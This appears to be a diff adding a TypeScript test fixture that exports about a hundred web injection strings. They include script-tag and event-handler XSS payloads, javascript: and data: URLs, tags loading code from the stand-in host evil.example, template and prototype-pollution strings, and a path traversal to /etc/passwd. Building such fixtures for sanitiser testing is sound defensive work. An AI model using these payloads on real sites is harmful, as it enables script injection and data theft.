@@ -1,0 +1,86 @@
+/** A hundred texts, each of which would run or load something where it is taken for markup, code or an address. */
+
+const CODE = 'window.pwned=1'
+const HOST = 'http://evil.example'
+
+const BY_MARKUP = [
+  `<script>${CODE}</script>`,
+  `</script><script>${CODE}</script>`,
+  `"><script>${CODE}</script>`,
+  `'><script>${CODE}</script>`,
+  `</title><script>${CODE}</script>`,
+  `</textarea><script>${CODE}</script>`,
+  `</style><script>${CODE}</script>`,
+  `--><script>${CODE}</script>`,
+  `]]><script>${CODE}</script>`,
+  `<script src="${HOST}/a.js"></script>`,
+  `<script type="module">import "${HOST}/a.js"</script>`,
+  `<SCRIPT>${CODE}</SCRIPT>`,
+  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
+  `<script\u0000>${CODE}</script>`.replace('\u0000', ' '),
+  `<svg><script>${CODE}</script></svg>`,
+  `<math><mtext><script>${CODE}</script></mtext></math>`,
+  `<noscript><p title="</noscript><script>${CODE}</script>">`,
+  `<template><script>${CODE}</script></template>`,
+  `<!--<script>${CODE}</script>-->`,
+  `<xmp><script>${CODE}</script></xmp>`,
+]
+const HANDLERS = ['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onpointerover', 'onbegin', 'onwheel']
+const ELEMENTS = ['img src=x', 'svg', 'body', 'input autofocus', 'details open', 'video src=x', 'iframe src=x']
+const BY_HANDLER = HANDLERS.flatMap((handler, i) => [`<${ELEMENTS[i % ELEMENTS.length]} ${handler}=${CODE}>`, `" ${handler}="${CODE}" x="`, `' ${handler}='${CODE}' x='`])
+const BY_ADDRESS = [
+  `javascript:${CODE}`,
+  `JaVaScRiPt:${CODE}`,
+  `java\tscript:${CODE}`,
+  `data:text/html,<script>${CODE}</script>`,
+  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==`,
+  `vbscript:${CODE}`,
+  `[a](javascript:${CODE})`,
+  `![a](${HOST}/a.png)`,
+  `<a href="javascript:${CODE}">a</a>`,
+  `<form action="${HOST}"><button>a</button></form>`,
+  `<base href="${HOST}/">`,
+  `<meta http-equiv="refresh" content="0;url=${HOST}">`,
+  `<link rel="stylesheet" href="${HOST}/a.css">`,
+  `<link rel="preload" as="image" href="${HOST}/a.png">`,
+  `<iframe src="${HOST}"></iframe>`,
+  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
+  `<object data="${HOST}"></object>`,
+  `<embed src="${HOST}">`,
+  `<img src="${HOST}/a.png">`,
+  `<style>@import "${HOST}/a.css";</style>`,
+  `<style>*{background:url(${HOST}/a.png)}</style>`,
+  `<p style="background:url(${HOST}/a.png)">`,
+  `<svg><use href="${HOST}/a.svg#a"></use></svg>`,
+  `<audio src="${HOST}/a.mp3" autoplay></audio>`,
+  `<portal src="${HOST}"></portal>`,
+]
+const BY_CODE = [
+  `\${${CODE}}`,
+  `{{constructor.constructor('${CODE}')()}}`,
+  `#{${CODE}}`,
+  `<%= ${CODE} %>`,
+  `';${CODE};//`,
+  `";${CODE};//`,
+  `\`;${CODE};//`,
+  `\\u003cscript\\u003e${CODE}\\u003c/script\\u003e`,
+  `&lt;script&gt;${CODE}&lt;/script&gt;`,
+  `%3Cscript%3E${CODE}%3C/script%3E`,
+  `__proto__`,
+  `constructor`,
+  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${CODE}>"}}}`,
+  `{"type":"script","props":{"children":"${CODE}"}}`,
+  `\u202e<script>${CODE}</script>`,
+  `\u2028${CODE}\u2029`,
+  `$& $1 $\` $' <script>${CODE}</script>`,
+  `#/sessions/../../api/file?token=1`,
+  `../../../../etc/passwd`,
+  `//evil.example/a.js`,
+  `<img src=x:x onerror\n=${CODE}>`,
+  `<a href=# style=animation-name:x onanimationend=${CODE}>`,
+  `<svg/onload=${CODE}>`,
+  `<img/src="x"/onerror=${CODE}>`,
+  `<<script>${CODE}//<</script>`,
+]
+
+export const INJECTIONS: readonly string[] = [...BY_MARKUP, ...BY_HANDLER, ...BY_ADDRESS, ...BY_CODE]
